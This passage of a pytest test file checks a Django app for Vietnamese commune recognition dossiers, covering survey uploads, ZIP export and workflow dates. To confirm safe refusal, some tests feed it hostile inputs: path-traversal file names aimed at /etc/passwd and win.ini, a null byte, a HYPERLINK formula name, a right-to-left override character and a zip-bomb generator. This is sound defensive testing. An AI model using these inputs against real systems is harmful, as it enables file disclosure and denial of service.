        url(complete_dossier, "hai-long/"), survey_post("2147483617", "10", "9"), follow=True
    )
    assert errors(page(response)) == []
    survey = SatisfactionSurvey.objects.get(dossier=complete_dossier)
    assert survey.asked == 2_147_483_647
    before = state()
    response = client_for(officer).post(
        url(complete_dossier, "hai-long/"), survey_post("2147483618", "10", "9"), follow=True
    )
    assert len(errors(page(response))) == 1
    assert state() == before


def test_the_issue_s_case_names_the_hamlet_and_both_counts(
    officer: User, complete_dossier: Dossier
) -> None:
    response = client_for(officer).post(
        url(complete_dossier, "hai-long/"), survey_post("40", "41", "41"), follow=True
    )
    (message,) = errors(page(response))
    # "05560-01: 41 households answered, more than the 40 asked." (in Vietnamese)
    assert "41" in message and "40" in message and "05560-01" in message, message


def _survey_file(
    user: User, dossier: Dossier, name: str, content: bytes, kind: str = "counts"
) -> list[str]:
    before = state()
    response = client_for(user).post(
        url(dossier, "hai-long/tep/"),
        {"kind": kind, "file": SimpleUploadedFile(name, content)},
        follow=True,
    )
    assert response.status_code == 200, page(response)[:2000]
    found = errors(page(response))
    assert state() == before
    return found


def _xlsx_bomb() -> bytes:
    """An XLSX-looking archive whose sheet inflates to 50 MB of spaces (about 50 KB)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
            '2006/content-types"></Types>',
        )
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", " " * (50 << 20))
    return buffer.getvalue()


HEADER = "Xóm,Số hộ được hỏi,Số hộ trả lời,Số hộ hài lòng\n"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("tong-hop.xlsx", pdf_bytes()),  # a PDF renamed
        ("tong-hop.xlsx", b""),
        ("tong-hop.csv", b""),
        ("tong-hop.xlsx", zip_bytes({"a.txt": b"hello"})),
        ("tong-hop.xlsx", docx_bytes()),
        ("tong-hop.xlsx", _xlsx_bomb()),
        ("tong-hop.csv", b"\xff\xfe\x00\x00garbage"),
        ("tong-hop.csv", (HEADER + "Bản Pấu,40,41,41\n").encode()),
        ("tong-hop.csv", (HEADER + "Bản Pấu,-40,38,37\n").encode()),
        # BUG fixed: counts beyond the column were a 500 (or stored on SQLite).
        ("tong-hop.csv", (HEADER + "Bản Pấu,1" + "0" * 30 + ",38,37\n").encode()),
        ("tong-hop.csv", (HEADER + "Bản Pấu,99999999999,38,37\n").encode()),
        ("tong-hop.csv", (HEADER + "Xóm Lạ,40,38,37\n").encode()),
        ("tong-hop.csv", (HEADER + "Bản Pấu,40,38,37\nBản Pấu,40,38,37\n").encode()),
        ("tong-hop.csv", HEADER.encode()),
        ("tong-hop.csv", b"a,b,c\n1,2,3\n"),
        ("../../etc/passwd.csv", (HEADER + "Xóm Lạ,40,38,37\n").encode()),
    ],
)
def test_a_bad_survey_file_is_refused_with_a_message(
    officer: User, complete_dossier: Dossier, name: str, content: bytes
) -> None:
    found = _survey_file(officer, complete_dossier, name, content)
    assert len(found) == 1, found
    assert "Traceback" not in found[0] and "/etc" not in found[0]


def test_answers_need_the_households_asked_first(
    officer: User, people: dict[str, User], phuc_chu_review: Review
) -> None:
    dossier = dossier_create(actor=officer, review=phuc_chu_review)
    found = _survey_file(
        officer,
        dossier,
        "ntm_hai_long.csv",
        b"xom,ma_ho,hai_long_chung\n05560-01,H1,hai_long\n",
        kind="answers",
    )
    assert len(found) == 1


def test_more_answers_on_phones_than_households_asked_are_refused(
    officer: User, complete_dossier: Dossier
) -> None:
    rows = "".join(f"05560-02,H{n},hai_long\n" for n in range(31))  # 31 answers, 30 asked
    found = _survey_file(
        officer,
        complete_dossier,
        "ntm_hai_long.csv",
        f"xom,ma_ho,hai_long_chung\n{rows}".encode(),
        kind="answers",
    )
    assert len(found) == 1 and "31" in found[0] and "30" in found[0], found
    found = _survey_file(
        officer,
        complete_dossier,
        "ntm_hai_long.csv",
        b"xom,ma_ho,hai_long_chung\n05560-09,H1,hai_long\n",
        kind="answers",
    )
    assert len(found) == 1, found


def test_a_survey_of_a_submitted_dossier_is_refused(
    officer: User, complete_dossier: Dossier
) -> None:
    act(officer, complete_dossier, "submit")
    before = state()
    response = client_for(officer).post(
        url(complete_dossier, "hai-long/"), survey_post("50", "50", "50"), follow=True
    )
    assert len(errors(page(response))) == 1
    response = client_for(officer).post(
        url(complete_dossier, "thong-tin/"), facts_post(meeting_place="Nơi khác"), follow=True
    )
    assert len(errors(page(response))) == 1
    assert state() == before


# --- the ZIP ---------------------------------------------------------------------------------


def _zip_documents(user: User, dossier: Dossier) -> dict[str, str]:
    """Download the ZIP; every DOCX in it read back with python-docx: path → its text
    (paragraphs, then the tables' cells)."""
    response: Any = client_for(user).get(url(dossier, "ho-so.zip"))
    assert response.status_code == 200, page(response)[:2000]
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    assert archive.testzip() is None
    texts = {}
    for name in archive.namelist():
        assert not name.startswith("/") and ".." not in name.split("/"), name
        if name.endswith(".docx"):
            data = archive.read(name)
            with zipfile.ZipFile(io.BytesIO(data)) as parts:
                for part in parts.namelist():
                    if part.endswith(".xml"):
                        xml = parts.read(part).decode("utf-8")
                        # XML 1.0 forbids these: Word refuses such a document.
                        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", xml), (
                            name,
                            part,
                        )
            document = docx.Document(io.BytesIO(data))
            texts[name] = "\n".join(
                [paragraph.text for paragraph in document.paragraphs]
                + [cell.text for table in document.tables for cell in table._cells]
            )
    assert len(texts) == 7  # six documents and the index
    return texts


# BUG fixed (both tests below): the message named the file's path on the server.
def test_an_evidence_file_deleted_from_disk_gives_a_clear_message(
    officer: User, complete_dossier: Dossier
) -> None:
    row = EvidenceFile.objects.filter(review=complete_dossier.review).first()
    assert row is not None
    Path(row.file.path).unlink()
    before = state()
    response = client_for(officer).get(url(complete_dossier, "ho-so.zip"), follow=True)
    assert response.status_code == 200
    (message,) = errors(page(response))
    # "bien-ban-tc1.pdf, tiêu chí 1, chỉ tiêu 1.1: không đọc được tệp: …"
    assert message.startswith(f"{row.original_name}, tiêu chí {row.criterion}"), message
    assert "media" not in message and str(row.file.path) not in message
    assert state() == before


def test_an_evidence_file_changed_on_disk_gives_a_clear_message(
    officer: User, complete_dossier: Dossier
) -> None:
    row = EvidenceFile.objects.filter(review=complete_dossier.review).first()
    assert row is not None
    Path(row.file.path).write_bytes(pdf_bytes() + b"% changed\n")
    response = client_for(officer).get(url(complete_dossier, "ho-so.zip"), follow=True)
    assert response.status_code == 200
    (message,) = errors(page(response))
    assert message.startswith(f"{row.original_name}, tiêu chí {row.criterion}"), message
    assert "thay đổi" in message and "SHA-256" in message
    assert "media" not in message and str(row.file.path) not in message


@pytest.mark.parametrize(
    "name",
    [
        "../../../etc/passwd.pdf",
        "..\\..\\windows\\win.ini.pdf",
        "biên\x00bản.pdf",
        "a" * 5000 + ".pdf",
        "Biên bản kiểm tra tiêu chí Nhà ở dân cư — xóm Nà Mò.PDF",
        '=HYPERLINK("http://x").pdf',
        "\u202egnp.pdf",
        "CON.pdf",
        ".pdf",
    ],
)
def test_hostile_evidence_names_stay_inside_their_folder_in_the_zip(
    officer: User, coordinator: User, complete_dossier: Dossier, name: str
) -> None:
    evidence_upload(
        actor=officer,
        review=complete_dossier.review,
        criterion=9,
        indicator="9.1",
        uploaded_file=SimpleUploadedFile(name, pdf_bytes() + name[:10].encode("utf-8", "replace")),
        description="Tệp có tên lạ",
    )
    documents = _zip_documents(coordinator, complete_dossier)
    assert "Muc-luc.docx" in documents
    response: Any = client_for(coordinator).get(url(complete_dossier, "ho-so.zip"))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    for entry in archive.namelist():
        assert entry.isascii() and "\x00" not in entry and len(entry) < 200, entry
    assert any(entry.startswith("TC09") and "/9.1-" in entry for entry in archive.namelist())


def test_control_characters_stored_in_facts_do_not_break_the_documents(
    officer: User, coordinator: User, complete_dossier: Dossier
) -> None:
    """Facts stored before the form refused control characters (or by another way in)
    must not make the ZIP a 500."""
    facts = dict(FACTS, meeting_place="Hội\x01trường\x0b\x1f", signer_name="Lộc\x08Văn Dương")
    Dossier.objects.filter(pk=complete_dossier.pk).update(facts=facts)
    documents = _zip_documents(coordinator, complete_dossier)
    assert "Lộc Văn Dương" in "\n".join(documents.values())


# --- the whole chain with a district (before 1/7/2025) ---------------------------------------


def dated_on(dossier: Dossier, day: Any) -> None:
    """Date the dossier's tờ trình on ``day``, the day a test submits it (the check
    refuses a tờ trình dated on the other side of 1/7/2025 from its submission)."""
    Dossier.objects.filter(pk=dossier.pk).update(
        facts={**dossier.facts, "submission_date": day.isoformat()}
    )
    dossier.refresh_from_db()


def test_the_district_chain_refuses_the_province_at_verification_and_another_district(
    people: dict[str, User], complete_dossier: Dossier
) -> None:
    import datetime
    from zoneinfo import ZoneInfo

    at = datetime.datetime(2025, 6, 2, 9, 0, tzinfo=ZoneInfo("Asia/Ho_Chi_Minh"))
    dated_on(complete_dossier, at.date())
    dossier_act(actor=people["officer"], dossier=complete_dossier, action="submit", at=at)
    complete_dossier.refresh_from_db()
    assert complete_dossier.workflow == "qd-18-2022-district"
    for name in ("coordinator", "appraiser", "officer"):
        refused(people[name], complete_dossier, "verify")
    response = client_for(people["other district verifier"]).post(
        url(complete_dossier, "thao-tac/"), {"action": "verify"}
    )
    assert response.status_code == 403
    act(people["district verifier"], complete_dossier, "verify")
    complete_dossier.refresh_from_db()
    assert complete_dossier.status == "verified"
    # The district's verification is undone by the district only.
    refused(people["coordinator"], complete_dossier, "undo")
    assert ENDED  # the fixtures' communes ended on 1/7/2025


def test_a_decision_dated_the_day_before_an_early_morning_appraisal_is_refused(
    officer: User, coordinator: User, appraiser: User, complete_dossier: Dossier
) -> None:
    """The appraisal at 06:00 on 5/8/2025 in Vietnam is 23:00 on 4/8 in UTC: a decision
    dated 4/8/2025 is before it (dates are Vietnam's, TIME_ZONE Asia/Ho_Chi_Minh)."""
    import datetime
    from zoneinfo import ZoneInfo

    from ntm.core.recognition.workflow import Decision

    vn = ZoneInfo("Asia/Ho_Chi_Minh")
    dossier = complete_dossier
    dated_on(dossier, datetime.date(2025, 8, 1))
    dossier_act(
        actor=officer,
        dossier=dossier,
        action="submit",
        at=datetime.datetime(2025, 8, 1, 9, 0, tzinfo=vn),
    )
    dossier_act(
        actor=coordinator,
        dossier=dossier,
        action="verify",
        at=datetime.datetime(2025, 8, 2, 9, 0, tzinfo=vn),
    )
    dossier_act(
        actor=appraiser,
        dossier=dossier,
        action="appraise",
        at=datetime.datetime(2025, 8, 5, 6, 0, tzinfo=vn),
    )
    before = state()
    with pytest.raises(DossierRefused) as refusal:
        dossier_act(
            actor=coordinator,
            dossier=dossier,
            action="recognise",
            decision=Decision("1763/QĐ-UBND", datetime.date(2025, 8, 4)),
            at=datetime.datetime(2025, 8, 6, 9, 0, tzinfo=vn),
        )
    assert "05/08/2025" in refusal.value.message
    assert state() == before
    dossier_act(
        actor=coordinator,
        dossier=dossier,
        action="recognise",
        decision=Decision("1763/QĐ-UBND", datetime.date(2025, 8, 5)),
        at=datetime.datetime(2025, 8, 6, 9, 0, tzinfo=vn),
    )
    dossier.refresh_from_db()
    assert dossier.status == "recognised"
